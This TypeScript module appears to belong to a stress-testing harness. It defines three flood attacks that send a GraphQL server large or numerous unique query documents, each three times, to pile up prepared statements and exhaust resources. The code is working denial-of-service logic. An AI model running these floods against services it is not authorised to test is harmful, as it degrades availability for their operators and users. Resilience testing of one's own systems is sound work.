import { type Attack, graphql, repeat, type Target } from '../attack.ts'
import { flood, largestPermitted } from '../flood.ts'

const times = 3

/** About 1 KB of SQL for each page. */
const pages = (count: number, nth: number) =>
  repeat(
    count,
    (index) =>
      `p${nth}_${index}: publicTimeline(first: 1) { nodes { uuid content author { username } replies(first: 1) { nodes { uuid content author { username } } } } }`,
  )

const replies = ({ thread }: Target, size: number, nth: number) =>
  `{ post(uuid: "${thread}") { ... on Post { ${repeat(size, (index) => `r${nth}_${index}: replies(first: 1) { nodes { uuid author { username } } }`)} } } }`

/** Attacks that leave prepared statements behind. */
export const statementAttacks: readonly Attack[] = [
  {
    row: '3',
    name: 'prepared-large',
    about: 'unique documents with about 30 KB of SQL, each three times in a row',
    prepare: (target) => ({
      strike: flood(target, 8, (nth) => graphql(`{ ${pages(31, Math.floor(nth / times))} }`, target.token)),
    }),
  },
  {
    row: '3',
    name: 'prepared-permitted',
    about: 'unique documents with as many pages of replies as are permitted, each three times in a row',
    prepare: async (target) => {
      const size = await largestPermitted(target, 45, (size) => graphql(replies(target, size, 0), target.token))
      const next = (nth: number) => graphql(replies(target, size, Math.floor(nth / times)), target.token)
      return { strike: flood(target, 8, next), note: `${size} pages` }
    },
  },
  {
    row: '3',
    name: 'prepared-small',
    about: '1,000 small documents, each three times in a row, over and over',
    prepare: (target) => ({
      strike: flood(target, 8, (nth) =>
        graphql(`{ viewer { u${Math.floor(nth / times) % 1_000}: uuid } }`, target.token),
      ),
    }),
  },
]
